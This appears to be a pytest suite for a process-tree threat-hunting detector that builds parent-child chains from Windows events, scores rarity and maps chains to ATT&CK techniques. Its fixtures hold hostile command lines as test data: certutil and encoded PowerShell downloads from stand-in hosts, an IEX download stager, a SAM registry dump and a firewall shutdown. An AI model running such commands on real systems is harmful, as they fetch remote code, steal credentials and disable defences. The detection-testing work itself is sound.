"""Process trees: links between events, what is suspicious, rarity, and published answers."""

from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from app.hunting import processes
from app.hunting.processes import fields, masquerade, names, rarity
from app.hunting.processes.behaviours import behaviours
from tests.encoding import b64

DATA = Path(__file__).parents[2] / "../shared/data/process_events.csv.gz"
COLUMNS = [
    "_time",
    "host",
    "EventCode",
    "ProcessId",
    "ParentProcessId",
    "ParentImage",
    "Image",
    "CommandLine",
]


def frame(*rows: tuple) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=COLUMNS)


def started(time, pid, parent_pid, parent, image, command="", code=1, host="ws-1") -> tuple:
    return (time, host, code, pid, parent_pid, parent, image, command or image)


def annotated(rows: pd.DataFrame) -> pd.DataFrame:
    return processes.annotate(rows, processes.learn(rows))


CHAIN = frame(
    started(100, 10, 4, "services.exe", "svchost.exe"),
    started(101, 11, 10, "svchost.exe", "winword.exe"),
    started(102, 12, 11, "winword.exe", "cmd.exe", "cmd /c whoami"),
    started(103, 13, 12, "cmd.exe", "whoami.exe"),
)


def test_tree_gives_depth_path_root_and_children() -> None:
    result = annotated(CHAIN)
    assert result["depth"].tolist() == [0, 1, 2, 3]
    assert result["children"].tolist() == [1, 1, 1, 0]
    assert result["root"].unique().tolist() == ["svchost.exe"]
    assert (
        result["path"].iloc[-1]
        == "[services.exe] > svchost.exe > winword.exe > cmd.exe > whoami.exe"
    )
    assert result["parent_node"].fillna(-1).tolist() == [-1, 0, 1, 2]


def test_order_of_events_does_not_matter() -> None:
    shuffled = CHAIN.sample(frac=1, random_state=3)
    result = annotated(shuffled)
    assert list(result.index) == list(shuffled.index)
    assert result["path"].sort_index().tolist() == annotated(CHAIN)["path"].tolist()


def test_reused_process_id_belongs_to_the_process_that_ran_then() -> None:
    rows = frame(
        started(100, 10, 1, "a.exe", "old.exe"),
        started(200, 20, 10, "old.exe", "child.exe"),
        started(300, 10, 1, "a.exe", "new.exe"),
        started(400, 21, 10, "new.exe", "child.exe"),
        started(500, 22, 10, "gone.exe", "child.exe"),
        started(400, 23, 10, "new.exe", "child.exe", host="ws-2"),
    )
    assert annotated(rows)["path"].tolist()[1::2] == [
        "[a.exe] > old.exe > child.exe",
        "[a.exe] > new.exe > child.exe",
        "[new.exe] > child.exe",
    ]
    assert annotated(rows)["path"][4] == "[gone.exe] > child.exe"


def test_guids_go_before_process_ids() -> None:
    rows = CHAIN.assign(
        ProcessGuid=["{a}", "{b}", "{c}", "{d}"], ParentProcessGuid=["{x}", "{a}", "{a}", "{c}"]
    )
    assert annotated(rows)["depth"].tolist() == [0, 1, 1, 2]


def test_circle_of_parents_is_cut() -> None:
    rows = CHAIN.head(2).assign(ProcessGuid=["{a}", "{b}"], ParentProcessGuid=["{b}", "{a}"])
    assert annotated(rows)["depth"].tolist() == [0, 0]


def test_events_of_two_sources_are_one_process() -> None:
    twins = CHAIN.assign(EventCode=4688, _time=CHAIN["_time"] + 0.4)
    result = annotated(pd.concat([CHAIN, twins], ignore_index=True))
    assert result["process_node"].tolist() == [0, 1, 2, 3] * 2
    assert result["same_process"].tolist() == [0] * 4 + [1] * 4
    assert result["children"].tolist()[:4] == [1, 1, 1, 0]
    assert result["pair_count"].tolist() == [1] * 8
    assert (result["score"][4:].to_numpy() < result["score"][:4].to_numpy()).all()


def test_security_4688_has_its_own_names_for_process_ids() -> None:
    rows = pd.DataFrame(
        {
            "_time": [1, 2],
            "Computer": "ws-1",
            "NewProcessId": ["0x1a4", "0x1a8"],
            "ProcessId": ["0x4", "0x1a4"],
            "NewProcessName": ["C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe"],
        }
    )
    read = fields.read(rows)
    assert read["pid"].tolist() == [420, 424]
    assert read["parent_pid"].tolist() == [4, 420]
    assert annotated(rows)["depth"].tolist() == [0, 1]


def test_fields_can_be_named() -> None:
    rows = CHAIN.rename(columns={"Image": "program", "CommandLine": "line"})
    given = {"image": "program", "command": "line"}
    expected = annotated(CHAIN)
    result = processes.annotate(rows, processes.learn(rows, given), given)
    pd.testing.assert_frame_equal(result, expected)


@pytest.mark.parametrize(
    ("rows", "given", "message"),
    [
        (CHAIN, {"image": "x"}, "image= names 'x'; the search has: _time, host"),
        (CHAIN[["_time", "host"]], {}, "no field is a process or a command line"),
    ],
)
def test_missing_fields_are_named(rows, given, message) -> None:
    with pytest.raises(ValueError, match=message):
        processes.learn(rows, given)


@pytest.mark.parametrize(
    ("parent", "image", "command", "technique"),
    [
        ("winword.exe", "cmd.exe", "cmd /c dir", "T1204.002"),
        ("fodhelper.exe", "powershell.exe", "powershell", "T1548.002"),
        ("w3wp.exe", "cmd.exe", "cmd /c whoami", "T1505.003"),
        ("services.exe", "cmd.exe", "cmd /c x", "T1569.002"),
        ("cmd.exe", "reg.exe", "reg save HKLM\\SAM c:\\x", "T1003.002"),
        ("cmd.exe", "certutil.exe", "certutil -urlcache -f http://192.0.2.1/a a", "T1105"),
        ("cmd.exe", "netsh.exe", "netsh advfirewall set allprofiles state off", "T1562.004"),
        ("cmd.exe", "schtasks.exe", "schtasks /create /tn a /tr b", "T1053.005"),
        (
            "cmd.exe",
            "powershell.exe",
            "powershell -enc " + b64("iwr http://192.0.2.1/a"),
            "T1059.001",
        ),
        ("cmd.exe", "C:\\W1ndows\\System32\\svchost.exe", "svchost", "T1036.005"),
    ],
)
def test_suspicious_chain_has_its_technique(parent, image, command, technique) -> None:
    usual = [started(n, n, 1, "explorer.exe", "chrome.exe") for n in range(40)]
    rows = frame(*usual, started(99, 99, 2, parent, image, command))
    result = annotated(rows)
    assert technique in result["techniques"].iloc[-1].split("|")
    assert result["score"].idxmax() == 40
    assert result["chains"].iloc[0] == ""


def test_what_many_hosts_do_counts_for_less() -> None:
    encoded = "powershell -NoProfile -EncodedCommand " + b64("Get-Service | Out-Null; Get-Process")
    common = [
        started(n, n, 1, "agent.exe", "powershell.exe", encoded, host=f"ws-{n % 9}")
        for n in range(90)
    ]
    other = "powershell -NoProfile -EncodedCommand " + b64("Get-Disk | Out-Null; Get-Volume")
    once = started(500, 500, 2, "agent.exe", "powershell.exe", other)
    result = annotated(frame(*common, once))
    assert result["score"].iloc[-1] > result["score"].iloc[:-1].max()


BOOTSTRAP = "powershell -enc " + b64(
    "&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n"
    "$split_parts = $exec_wrapper_str.Split(@('`0`0`0`0'), 2, 'RemoveEmptyEntries')"
)
STAGER = "powershell -enc " + b64("IEX (IWR https://stage.example.com/a.ps1)")


@pytest.mark.parametrize(
    ("grandparent", "parent", "counts_for_less"),
    [
        ("winrshost.exe", BOOTSTRAP, True),  # Ansible over WinRM
        ("explorer.exe", BOOTSTRAP, False),  # only says so
        ("winrshost.exe", "powershell -enc " + b64("Get-ChildItem C:\\Users"), False),
    ],
)
def test_only_what_configuration_management_starts_counts_for_less(
    grandparent: str, parent: str, counts_for_less: bool
) -> None:
    def score(above: str, command: str) -> float:
        rows = frame(
            started(100, 11, 10, above, "powershell.exe", command),
            started(101, 12, 11, "powershell.exe", "powershell.exe", STAGER),
        )
        return annotated(rows)["score"].iloc[1]

    ordinary = score("explorer.exe", "powershell -enc " + b64("Get-ChildItem C:\\Users"))
    assert (score(grandparent, parent) < 0.8 * ordinary) == counts_for_less


def test_script_of_configuration_management_is_no_family_of_attacks() -> None:
    rows = frame(started(100, 11, 10, "winrshost.exe", "powershell.exe", BOOTSTRAP))
    other = "powershell -enc " + b64("Get-ChildItem C:\\Users -Recurse")
    same = frame(started(100, 11, 10, "winrshost.exe", "powershell.exe", other))
    assert annotated(rows)["score"].iloc[0] == pytest.approx(
        annotated(same)["score"].iloc[0], rel=0.1
    )


def test_questions_in_a_burst_add_up() -> None:
    tools = ["whoami.exe", "ipconfig.exe", "netstat.exe", "tasklist.exe", "systeminfo.exe"]
    burst = [started(n, 10 + n, 5, "cmd.exe", tool) for n, tool in enumerate(tools)]
    alone = [
        started(9000 * n, 50 + n, 70 + n, "cmd.exe", tool, host="ws-2")
        for n, tool in enumerate(tools)
    ]
    result = annotated(frame(*burst, *alone))
    assert ["discovery burst" in chains for chains in result["chains"]] == [True] * 5 + [False] * 5


@pytest.mark.parametrize(
    ("path", "what"),
    [
        ("C:\\Windows\\System32\\svchost.exe", ""),
        ("C:\\Users\\a\\svchost.exe", "program of Windows in another folder"),
        ("C:\\Windows\\System32\\svch0st.exe", "name that looks like one of Windows"),
        ("D:\\tools\\suchost.exe", "name that looks like one of Windows"),
        ("C:\\W!ndows\\System32\\a.exe", "folder that looks like one of Windows"),
        ("C:\\Windows\\explorer.exe", ""),
        ("svchost.exe", ""),
        ("", ""),
    ],
)
def test_pretence_is_recognised(path: str, what: str) -> None:
    assert masquerade.pretence(path)[0] == what


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '"C:\\a b\\x.exe"  -p 1234 -k {6BF52A52-394A-11D3-B153-00C04F79FAA6}',
            "c:\\a b\\x.exe -p # -k {{id}}",
        ),
        ("run " + "QUJD" * 20, "run {encoded}"),
    ],
)
def test_shape_leaves_out_what_changes(text: str, expected: str) -> None:
    assert names.shape(text) == expected


def test_prevalence_counts_processes_and_hosts() -> None:
    things = np.array(["a", "a", "a", "b"], dtype=object)
    known = rarity.learn(things, np.array(["x", "y", "y", "x"], dtype=object))
    processes_of, hosts_of = known.of(np.array(["a", "b", "new"], dtype=object))
    assert (processes_of.tolist(), hosts_of.tolist()) == ([3, 1, 1], [2, 1, 1])


def test_behaviours_have_techniques_and_match_something() -> None:
    assert [
        rule.name for rule in behaviours() if not rule.techniques or not 1 <= rule.points <= 10
    ] == []
    assert len({rule.name for rule in behaviours()}) == len(behaviours())


def test_saved_model_answers_the_same(tmp_path: Path) -> None:
    known = processes.learn(CHAIN)
    processes.save(tmp_path / "m", known, {"image": "Image"})
    loaded, given = processes.load(tmp_path / "m")
    assert given == {"image": "Image"}
    pd.testing.assert_frame_equal(
        processes.annotate(CHAIN, loaded), processes.annotate(CHAIN, known)
    )


@pytest.mark.parametrize("count", [0, 1])
def test_few_rows_have_their_answers(count: int) -> None:
    assert len(annotated(CHAIN.head(count))) == count


def test_nodes_are_one_row_per_process() -> None:
    table = processes.nodes(CHAIN, processes.learn(CHAIN))
    assert table[["node", "parent", "root", "depth"]].to_numpy().tolist() == [
        [0, -1, 0, 0],
        [1, 0, 0, 1],
        [2, 1, 0, 2],
        [3, 2, 0, 3],
    ]


@pytest.fixture(scope="module")
def published() -> pd.DataFrame:
    """The published events without the marks of the demonstration, with their scores."""
    if not DATA.exists():
        pytest.skip("../shared/data is not here")
    rows = pd.read_csv(DATA)
    rows = rows[~rows["command_line"].str.contains("Security Demo tasks", na=False)]
    rows = rows.reset_index(drop=True)
    events = rows.drop(columns=["dataset", "technique"])
    return rows.assign(score=processes.annotate(events, processes.learn(events))["score"])


def test_known_attacks_rank_in_the_top_of_their_hosts(published: pd.DataFrame) -> None:
    answers = pd.read_csv(DATA.with_name("known_answers.csv.gz"))
    answers = answers[(answers["file"] == DATA.name) & (answers["technique"] != "none")]
    rank = published.groupby("host")["score"].rank(ascending=False, method="min")
    share = rank / published.groupby("host")["score"].transform("size")
    found = [share[covered(published, answer)].min() <= 0.02 for _, answer in answers.iterrows()]
    assert np.mean(found) >= 0.8


def covered(events: pd.DataFrame, answer: pd.Series) -> pd.Series:
    """The rows that an answer is about; where it is one row, the one with its process id."""
    rows = (events["dataset"] == answer["dataset"]) & (events["host"] == answer["host"])
    rows &= events["_time"].between(answer["first_time"], answer["last_time"])
    if answer["rows"] > 1:
        return rows
    same = events["event_id"] == int(answer["event_id"])
    return rows & same & (events["process_id"] == float(answer["process_id"]))


def test_build_automation_ranks_below_attacks(published: pd.DataFrame) -> None:
    key = ["_time", "host", "event_id", "process_id"]
    labels = pd.read_csv(DATA.with_name("encoded_powershell.csv.gz")).drop_duplicates(key)
    labelled = published.merge(labels[[*key, "label"]], on=key)
    attacks = labelled[labelled["label"] == "attack"]["score"].to_numpy()
    automation = labelled[labelled["label"] == "automation"]["score"].to_numpy()
    assert attacks.min() > automation.max()
